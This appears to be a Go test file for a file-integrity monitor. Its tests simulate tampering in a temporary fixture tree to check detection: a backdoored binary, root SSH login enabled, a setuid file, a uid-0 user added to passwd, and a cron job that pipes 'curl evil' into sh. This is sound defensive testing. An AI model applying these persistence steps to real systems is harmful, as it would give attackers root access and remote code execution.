package integrity

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// eventLog collects what a monitor emits.
type eventLog struct {
	mu     sync.Mutex
	events []Event
}

func (l *eventLog) emit(_ context.Context, evs []Event) {
	l.mu.Lock()
	l.events = append(l.events, evs...)
	l.mu.Unlock()
}

// wait returns the first event matching kind/key/change, failing after d.
func (l *eventLog) wait(t *testing.T, d time.Duration, kind Kind, key string, change Change) Event {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		l.mu.Lock()
		for _, e := range l.events {
			if e.Kind == kind && e.Key == key && e.Change == change {
				l.mu.Unlock()
				return e
			}
		}
		l.mu.Unlock()
		time.Sleep(20 * time.Millisecond)
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	var seen []string
	for _, e := range l.events {
		seen = append(seen, fmt.Sprintf("%s %s %s %v (%s)", e.Kind, e.Key, e.Change, e.Changed, e.Source))
	}
	t.Fatalf("no %s %s %s event within %v; got:\n%s", kind, key, change, d, strings.Join(seen, "\n"))
	return Event{}
}

func (l *eventLog) count(kind Kind, key string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	n := 0
	for _, e := range l.events {
		if e.Kind == kind && e.Key == key {
			n++
		}
	}
	return n
}

type runningMonitor struct {
	m    *Monitor
	log  *eventLog
	stop func()
}

// startMonitor builds a baseline of root and runs a monitor on it.
func startMonitor(t *testing.T, root string, rs *RuleSet, mode WatchMode, gate chan struct{}, colls []Collector, extra ...Option) *runningMonitor {
	t.Helper()
	opts := append([]Option{WithRoot(root), WithCollectors(colls...), WithWatch(mode), WithCoalesce(50*time.Millisecond, 300*time.Millisecond)}, extra...)
	base, err := Build(context.Background(), rs, nil, opts...)
	if err != nil {
		t.Fatal(err)
	}
	l := &eventLog{}
	m, err := NewMonitor(rs, base, l.emit, opts...)
	if err != nil {
		t.Fatal(err)
	}
	m.testGate = gate
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()
	stop := func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Run: %v", err)
		}
	}
	t.Cleanup(func() {
		if ctx.Err() == nil {
			stop()
		}
	})
	for deadline := time.Now().Add(10 * time.Second); m.Status().Compares == 0; {
		if time.Now().After(deadline) {
			t.Fatal("no initial compare")
		}
		time.Sleep(10 * time.Millisecond)
	}
	if n := len(l.events); n != 0 {
		t.Fatalf("initial compare of an unchanged tree emitted %d events: %+v", n, l.events)
	}
	return &runningMonitor{m: m, log: l, stop: stop}
}

func TestMonitorRealtimeInotify(t *testing.T) {
	root := fixture(t)
	monitorScenario(t, root, WatchInotify)
}

// monitorScenario makes the changes the issue names and waits for each to
// be reported in real time with before and after.
func monitorScenario(t *testing.T, root string, mode WatchMode) *runningMonitor {
	rs := testRules(t)
	rm := startMonitor(t, root, rs, mode, nil, fileCollectors())
	for dir, backend := range rm.m.Status().Backends {
		if backend != string(mode) {
			t.Errorf("%s watched by %s, want %s", dir, backend, mode)
		}
	}
	full := func(p string) string { return filepath.Join(root, p) }
	const wait = 5 * time.Second

	// A changed binary.
	if err := os.WriteFile(full("/usr/bin/ls"), []byte("ELF ls, now with a backdoor"), 0o755); err != nil {
		t.Fatal(err)
	}
	e := rm.log.wait(t, wait, KindFile, "/usr/bin/ls", Modified)
	if e.Source != SourceRealtime || e.Before["sha256"] == e.After["sha256"] || e.Before["size"] != "6" || e.After["size"] != "27" {
		t.Errorf("binary event %+v", e)
	}
	// A changed /etc file.
	if err := os.WriteFile(full("/etc/ssh/sshd_config"), []byte("PermitRootLogin yes\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e = rm.log.wait(t, wait, KindFile, "/etc/ssh/sshd_config", Modified)
	if e.Rule != "ssh" || e.Severity != SeverityCritical {
		t.Errorf("sshd_config event %+v", e)
	}
	// A new setuid file.
	if err := os.WriteFile(full("/usr/bin/rootme"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Chmod(full("/usr/bin/rootme"), 0o4755); err != nil {
		t.Fatal(err)
	}
	waitAttr(t, rm.log, wait, "/usr/bin/rootme", "setuid", "true")
	// A new user (fixture passwd under the root).
	f, err := os.OpenFile(full("/etc/passwd"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(f, "eve:x:0:0:eve:/root:/bin/sh")
	f.Close()
	e = rm.log.wait(t, wait, KindUser, "eve", Added)
	if e.After["uid"] != "0" || e.Before != nil || e.Source != SourceRealtime {
		t.Errorf("user event %+v", e)
	}
	rm.log.wait(t, wait, KindFile, "/etc/passwd", Modified)
	// A new directory with a file made at once (the watch on the directory
	// comes after the file: the subtree scan finds it).
	if err := os.MkdirAll(full("/etc/cron.d/new/deeper"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full("/etc/cron.d/new/deeper/job"), []byte("* * * * * root id\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rm.log.wait(t, wait, KindFile, "/etc/cron.d/new/deeper/job", Added)
	// ... and a later change inside it is seen through its new watch.
	if err := os.WriteFile(full("/etc/cron.d/new/deeper/job"), []byte("* * * * * root curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rm.log.wait(t, wait, KindFile, "/etc/cron.d/new/deeper/job", Modified)
	// A removed tree.
	if err := os.RemoveAll(full("/etc/cron.d")); err != nil {
		t.Fatal(err)
	}
	rm.log.wait(t, wait, KindFile, "/etc/cron.d/new/deeper/job", Removed)
	rm.log.wait(t, wait, KindFile, "/etc/cron.d", Removed)
	// A renamed file: removed at its old path, added at the new one.
	if err := os.Rename(full("/usr/lib/libc.so.6"), full("/usr/lib/libc.so.7")); err != nil {
		t.Fatal(err)
	}
	rm.log.wait(t, wait, KindFile, "/usr/lib/libc.so.6", Removed)
	rm.log.wait(t, wait, KindFile, "/usr/lib/libc.so.7", Added)
	// Excluded paths stay quiet.
	if err := os.WriteFile(full("/etc/ignored"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Each change is reported once: the scheduled compare finds nothing new.
	time.Sleep(300 * time.Millisecond)
	before := len(rm.log.events)
	if err := rm.m.CompareNow(context.Background()); err != nil {
		t.Fatal(err)
	}
	rm.log.mu.Lock()
	after := rm.log.events[before:]
	rm.log.mu.Unlock()
	if len(after) != 0 {
		t.Errorf("compare after real-time events reported %d more: %+v", len(after), after)
	}
	if n := rm.log.count(KindFile, "/etc/ignored"); n != 0 {
		t.Errorf("excluded file reported %d times", n)
	}
	if n := rm.log.count(KindUser, "eve"); n != 1 {
		t.Errorf("new user reported %d times", n)
	}
	return rm
}

// waitAttr waits for an added-or-modified event of path whose After has
// attr = want (a file created then chmod'ed may show as one or two).
func waitAttr(t *testing.T, l *eventLog, d time.Duration, path, attr, want string) Event {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		l.mu.Lock()
		for _, e := range l.events {
			if e.Kind == KindFile && e.Key == path && e.After[attr] == want {
				l.mu.Unlock()
				return e
			}
		}
		l.mu.Unlock()
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("no event for %s with %s=%s", path, attr, want)
	return Event{}
}

// TestMonitorOverflowInotify holds the reader while more changes happen
// than the kernel queues (fs.inotify.max_queued_events, 16384 by
// default): the kernel reports IN_Q_OVERFLOW and the rescan that follows
// must find every change.
func TestMonitorOverflowInotify(t *testing.T) {
	overflowScenario(t, fixture(t), WatchInotify)
}

func overflowScenario(t *testing.T, root string, mode WatchMode) {
	rs := testRules(t)
	gate := make(chan struct{})
	rm := startMonitor(t, root, rs, mode, gate, fileCollectors())
	full := func(p string) string { return filepath.Join(root, p) }
	if err := os.WriteFile(full("/usr/bin/ls"), []byte("replaced"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(full("/etc/ssh/sshd_config")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full("/etc/passwd"), []byte("root:x:0:0:root:/root:/bin/bash\nzed:x:1001:1001::/home/zed:/bin/bash\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// More distinct events than the queue holds (16384 by default) in a
	// watched directory: events on distinct files are never merged.
	spam := full("/usr/lib")
	for i := range 20_000 {
		p := fmt.Sprintf("%s/f%05d", spam, i)
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(full("/usr/bin/late"), []byte("after the flood"), 0o755); err != nil {
		t.Fatal(err)
	}
	close(gate) // let the reader see the queue
	const wait = 15 * time.Second
	for deadline := time.Now().Add(wait); rm.m.Status().Overflows == 0; {
		if time.Now().After(deadline) {
			t.Fatalf("no overflow seen; status %+v", rm.m.Status())
		}
		time.Sleep(20 * time.Millisecond)
	}
	e := rm.log.wait(t, wait, KindFile, "/usr/bin/ls", Modified)
	if e.Source != SourceRescan {
		t.Errorf("ls found by %s, want rescan", e.Source)
	}
	rm.log.wait(t, wait, KindFile, "/etc/ssh/sshd_config", Removed)
	rm.log.wait(t, wait, KindFile, "/usr/bin/late", Added)
	rm.log.wait(t, wait, KindFile, "/usr/lib/f19999", Added)
	rm.log.wait(t, wait, KindUser, "zed", Added)
	rm.log.wait(t, wait, KindUser, "daemon", Removed)
	if n := rm.log.count(KindFile, "/usr/lib/f00000"); n != 1 {
		t.Errorf("spam file reported %d times", n)
	}
}

func TestMonitorStateFile(t *testing.T) {
	root := fixture(t)
	rs := testRules(t)
	state := filepath.Join(t.TempDir(), "state")
	opts := []Option{WithRoot(root), WithCollectors(fileCollectors()...), WithWatch(WatchNone), WithStateFile(state)}
	base, err := Build(context.Background(), rs, nil, opts...)
	if err != nil {
		t.Fatal(err)
	}
	run := func() *eventLog {
		l := &eventLog{}
		m, err := NewMonitor(rs, base, l.emit, opts...)
		if err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		done := make(chan error, 1)
		go func() { done <- m.Run(ctx) }()
		for m.Status().Compares == 0 {
			time.Sleep(10 * time.Millisecond)
		}
		cancel()
		if err := <-done; err != nil {
			t.Fatal(err)
		}
		return l
	}
	if err := os.WriteFile(filepath.Join(root, "/usr/bin/ls"), []byte("v2"), 0o755); err != nil {
		t.Fatal(err)
	}
	if l := run(); l.count(KindFile, "/usr/bin/ls") != 1 {
		t.Fatalf("first run: %+v", l.events)
	}
	// The restarted monitor resumes from the saved state: nothing new.
	if l := run(); len(l.events) != 0 {
		t.Fatalf("second run re-reported: %+v", l.events)
	}
	// A state file of another baseline is ignored.
	other, _ := Build(context.Background(), rs, nil, opts...)
	base = other
	if l := run(); len(l.events) != 0 {
		t.Fatalf("new baseline: %+v", l.events)
	}
}

// TestRescanRateLimit: a second burst too large to track right after a
// rescan waits for the minimum interval, and is then found.
func TestRescanRateLimit(t *testing.T) {
	root := fixture(t)
	rs := testRules(t)
	opts := []Option{WithRoot(root), WithCollectors(), WithWatch(WatchInotify), WithCoalesce(20*time.Millisecond, 100*time.Millisecond), WithMinRescan(1500 * time.Millisecond)}
	base, err := Build(context.Background(), rs, nil, opts...)
	if err != nil {
		t.Fatal(err)
	}
	l := &eventLog{}
	m, err := NewMonitor(rs, base, l.emit, opts...)
	if err != nil {
		t.Fatal(err)
	}
	m.s.o.maxDirty = 5
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()
	defer func() { cancel(); <-done }()
	waitFor := func(what string, d time.Duration, f func(Status) bool) {
		t.Helper()
		for deadline := time.Now().Add(d); !f(m.Status()); {
			if time.Now().After(deadline) {
				t.Fatalf("%s: status %+v", what, m.Status())
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	waitFor("initial compare", 5*time.Second, func(s Status) bool { return s.Compares == 1 })
	burst := func(prefix string) {
		for i := range 10 {
			if err := os.WriteFile(filepath.Join(root, fmt.Sprintf("/usr/lib/%s%d", prefix, i)), nil, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	burst("a")
	waitFor("first rescan", 5*time.Second, func(s Status) bool { return s.Compares == 2 })
	first := time.Now()
	l.wait(t, time.Second, KindFile, "/usr/lib/a9", Added)
	burst("b")
	waitFor("second burst seen", 5*time.Second, func(s Status) bool { return s.Saturated == 2 })
	waitFor("deferred rescan", 5*time.Second, func(s Status) bool { return s.Compares == 3 })
	if d := time.Since(first); d < 1200*time.Millisecond {
		t.Errorf("second rescan %v after the first, want the 1.5s minimum", d)
	}
	e := l.wait(t, time.Second, KindFile, "/usr/lib/b9", Added)
	if e.Source != SourceRescan {
		t.Errorf("found by %s", e.Source)
	}
}
